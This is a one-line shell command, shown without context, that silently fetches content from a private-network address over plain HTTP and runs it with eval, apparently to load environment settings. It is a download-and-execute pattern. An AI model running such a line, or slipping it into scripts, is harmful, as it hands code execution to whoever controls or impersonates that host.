eval "$(wget -q -O - http://10.0.0.1/env)"
